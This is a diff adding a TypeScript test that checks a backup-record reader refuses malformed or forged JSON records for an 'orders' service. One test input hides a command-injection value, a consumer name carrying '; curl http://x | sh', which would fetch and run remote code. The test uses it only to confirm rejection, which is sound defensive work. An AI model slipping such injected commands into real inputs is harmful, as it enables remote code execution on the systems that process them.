@@ -147,4 +147,23 @@ describe("the backup record", () => {
     expect(serviceConsumers("orders").map((c) => c.durable)).toContain("orders-stock-reserved");
     expect(() => serviceConsumers("nope")).toThrow(/no service "nope"/);
   });
+
+  it("refuses a record that is not one, whose positions would print commands that are not the service's", () => {
+    const backup = join(dir, "forged.db");
+    const file = `${backup}.json`;
+    const refused = (json: string) => {
+      writeFileSync(file, json);
+      return () => readBackupRecord(backup);
+    };
+    expect(refused("{bad")).toThrow(`${file} cannot be read as a backup's record:`);
+    expect(refused("null")).toThrow(`${file} is no backup's record: it holds no JSON object`);
+    expect(refused('{"service":"payments","positions":null}')).toThrow('its service is "payments", none of the contracts\'');
+    expect(refused('{"service":"orders","positions":{"a":1}}')).toThrow("its positions are neither a list nor null");
+    const position = (durable: string, ackFloor: unknown) => JSON.stringify({ service: "orders", positions: [{ stream: "SHOP_PRODUCTS", durable, ackFloor }] });
+    expect(refused(position("orders-stock-reserved; curl http://x | sh #", 7))).toThrow("names no consumer of orders");
+    expect(refused(position("products-order-placed", 7))).toThrow("names no consumer of orders");
+    for (const ackFloor of ["7", -1, 1.5, null]) expect(refused(position("orders-stock-reserved", ackFloor))).toThrow("has no whole number for its ackFloor");
+    expect(refused(position("orders-stock-reserved", 7))()).toMatchObject({ positions: [{ durable: "orders-stock-reserved", ackFloor: 7 }] });
+    expect(refused('{"service":"orders","positions":null}')()).toMatchObject({ positions: null });
+  });
 });
